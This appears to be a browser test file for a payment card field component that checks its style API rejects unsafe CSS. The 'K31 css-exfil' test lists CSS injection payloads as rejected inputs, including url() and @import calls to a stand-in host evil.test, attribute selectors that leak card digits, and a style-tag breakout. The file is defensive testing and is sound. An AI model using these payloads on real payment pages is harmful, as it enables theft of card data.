import { expect, test, vi } from 'vitest';
import { openBrowser } from '../test/open-browser.ts';
import { openFields, type OpenFields } from '../test/open-fields.ts';
import { soon } from '../test/open-shop.ts';

vi.setConfig({ testTimeout: 30_000 });

const browser = await openBrowser();

const look = (shop: OpenFields, field: 'number' | 'cvv', property: string, part?: string) =>
  shop[field].evaluate((input, [name, pseudo]) => getComputedStyle(input, pseudo).getPropertyValue(name ?? ''), [
    property,
    part,
  ] as const);

const refused = [
  ['*', 'background-image', 'url(https://evil.test/?4)'],
  ['*', 'background', 'red'],
  ['*', 'position', 'fixed'],
  ['*', 'content', 'attr(value)'],
  ['*', '--x', 'red'],
  ['*', 'src', 'x'],
  ['cvv', 'transition', 'color 1s'],
  ['*', 'constructor', 'red'],
] as const;
const refusedValues = [
  ['color', 'url(https://evil.test/)'],
  ['color', 'var(--x)'],
  ['color', 'red; background: url(//evil.test)'],
  ['color', 'red } input[value^="4"] { background: url(//evil.test) } x {'],
  ['color', 'expression(alert(1))'],
  ['color', 'rgb(calc(1), 2, 3)'],
  ['color', 'image-set(url(x))'],
  ['color', '\\75rl(https://evil.test/)'],
  ['color', '12px'],
  ['padding', 'env(safe-area-inset-top)'],
  ['font-family', '@import url(//evil.test)'],
  ['font-family', 'x</style><img src=//evil.test>'],
  ['font-size', 'calc(1px + var(--x))'],
  ['opacity', 'attr(value)'],
  ['padding-x', '1px'],
  ['color', 'color-mix(in srgb, red, blue)'],
] as const;
const refusedSelectors = [
  'input[value^="4"]',
  '@import "//evil.test"',
  '@font-face',
  '*, body',
  '* {} *',
  'cardNumber ~ *',
  '*:has(x)',
  '#field',
  '::before',
  'constructor',
];

test('K31 css-exfil: forbidden properties, values and selectors are rejected, and the error names them', async () => {
  const shop = await openFields(browser);
  const errors = new Set<unknown>();
  for (const [selector, property, value] of refused) {
    await shop.call('setStyle', selector, { [property]: value });
    errors.add(`The style \`${property}\` is not allowed.`);
  }
  for (const [property, value] of refusedValues) {
    await shop.call('setStyle', '*', { [property]: value });
    errors.add(`The value of the style \`${property}\` is not allowed.`);
  }
  for (const selector of refusedSelectors) {
    await shop.call('setStyle', selector, { color: 'red' });
    errors.add(`The style \`${selector}\` is not allowed.`);
  }
  // Both fields reject each forbidden style, except that a style for one field is rejected only by that field.
  const count = 2 * (refused.length + refusedValues.length + refusedSelectors.length) - 1;
  await soon(() => shop.told('error')).toHaveLength(count);
  expect(new Set(shop.told('error').map(({ error }) => error))).toEqual(errors);
  expect(shop.told('error').every(({ action, field }) => action === 'style' && typeof field === 'string')).toBe(true);
  expect(await look(shop, 'number', 'color')).toBe('rgb(0, 0, 0)');
  expect(await look(shop, 'number', 'background-image')).toBe('none');
  expect(shop.notes.violation).toEqual([]);
});

test('allowed styles can be set for both fields, for one field, and for states and placeholders', async () => {
  const shop = await openFields(browser, {
    init: `{ styles: {
      '*': { color: 'rgb(1, 2, 3)', fontSize: '18px', padding: '0 12px', 'letter-spacing': '0.5px' },
      cardNumber: { color: '#0a0b0c', 'font-family': '"A B", serif' },
      '*.invalid': { color: 'hsl(0 100% 50% / 1)' },
      '::placeholder': { opacity: 0.5 },
      'cvv:focus': { 'background-color': 'oklch(0 0 0)' },
    } }`,
  });
  expect(await look(shop, 'number', 'color')).toBe('rgb(10, 11, 12)');
  expect(await look(shop, 'number', 'font-family')).toBe('"A B", serif');
  expect(await look(shop, 'cvv', 'color')).toBe('rgb(1, 2, 3)');
  expect(await look(shop, 'cvv', 'padding')).toBe('0px 12px');
  expect(await look(shop, 'cvv', 'font-size')).toBe('18px');
  expect(await look(shop, 'cvv', 'opacity', '::placeholder')).toBe('0.5');
  await shop.call('setInvalid', 'cardNumber', true);
  await soon(() => look(shop, 'number', 'color')).toBe('rgb(255, 0, 0)');
  await shop.call('focus', 'cvv');
  await soon(() => look(shop, 'cvv', 'background-color')).toBe('oklch(0 0 0)');
  await shop.call('setStyle', 'cardNumber', { color: 'green', fontFamily: '' });
  await shop.call('setInvalid', 'cardNumber', false);
  await soon(() => look(shop, 'number', 'color')).toBe('rgb(0, 128, 0)');
  expect(shop.told('error')).toEqual([]);
});

test('init and setStyle accept styles as CSS text, either as declarations or as whole rules', async () => {
  const shop = await openFields(browser, {
    init: `{ styles: { '*': 'color: rgb(1, 2, 3); font-size: 18px;', cvv: { opacity: '0.5' } } }`,
  });
  expect(await look(shop, 'number', 'color')).toBe('rgb(1, 2, 3)');
  expect(await look(shop, 'cvv', 'font-size')).toBe('18px');
  expect(await look(shop, 'cvv', 'opacity')).toBe('0.5');
  await shop.call('setStyle', 'cardNumber', 'color:green;letter-spacing : 2px');
  await soon(() => look(shop, 'number', 'letter-spacing')).toBe('2px');
  expect(await look(shop, 'number', 'color')).toBe('rgb(0, 128, 0)');
  await shop.call('setStyle', { cvv: { color: 'red' }, cardNumber: 'color: blue' });
  await soon(() => look(shop, 'number', 'color')).toBe('rgb(0, 0, 255)');
  await shop.call('setStyle', 'cardNumber { color: black; } cvv:focus, x { color: red } cvv { font-size: 20px }');
  await soon(() => look(shop, 'cvv', 'font-size')).toBe('20px');
  expect(await look(shop, 'number', 'color')).toBe('rgb(0, 0, 0)');
  await soon(() => new Set(shop.told('error').map(({ error }) => error))).toEqual(
    new Set(['The style `cvv:focus, x` is not allowed.']),
  );
  for (const text of ['color: red; background: url(//evil.test/)', '* { content: attr(value) }'])
    await (text.includes('{') ? shop.call('setStyle', text) : shop.call('setStyle', '*', text));
  await soon(() => shop.told('error')).toHaveLength(6);
  expect(shop.notes.violation).toEqual([]);
});

test("without styles, the fields inherit the placeholder's text style, and the frame fills the placeholder", async () => {
  const shop = await openFields(browser, {
    context: { colorScheme: 'dark' },
    style: `
      body { background: #101418; color: rgb(230, 231, 232); font: 600 20px/1.2 Georgia, 'Ä b', serif; letter-spacing: 0.333333px }
      iframe { width: 7px; height: auto; border: 3px solid; margin: 9px; opacity: 0.1 }`,
  });
  expect(await look(shop, 'number', 'color')).toBe('rgb(230, 231, 232)');
  expect(await look(shop, 'number', 'font-size')).toBe('20px');
  expect(await look(shop, 'number', 'font-weight')).toBe('600');
  expect(await look(shop, 'number', 'font-family')).toContain('Georgia');
  expect(await look(shop, 'number', 'letter-spacing')).toBe('0.333333px');
  const boxes = await shop.page.locator('#number, #number iframe').evaluateAll((all) =>
    all.map((element) => {
      const { clientWidth, clientHeight } = element;
      const { opacity, margin, borderTopWidth, colorScheme } = getComputedStyle(element);
      return {
        clientWidth,
        clientHeight,
        opacity,
        margin,
        isFrame: element.tagName === 'IFRAME',
        borderTopWidth,
        colorScheme,
      };
    }),
  );
  const [place, frame] = boxes;
  expect(frame).toEqual({
    ...place,
    isFrame: true,
    borderTopWidth: '0px',
    colorScheme: 'light',
  });
  expect(shop.told('error')).toEqual([]);
});

test('in forced-colors mode, the field draws no outline, because the shop shows a focus indicator around the frame', async () => {
  const shop = await openFields(browser, { context: { forcedColors: 'active' } });
  await shop.number.focus();
  expect(await look(shop, 'number', 'outline-style')).toBe('none');
});
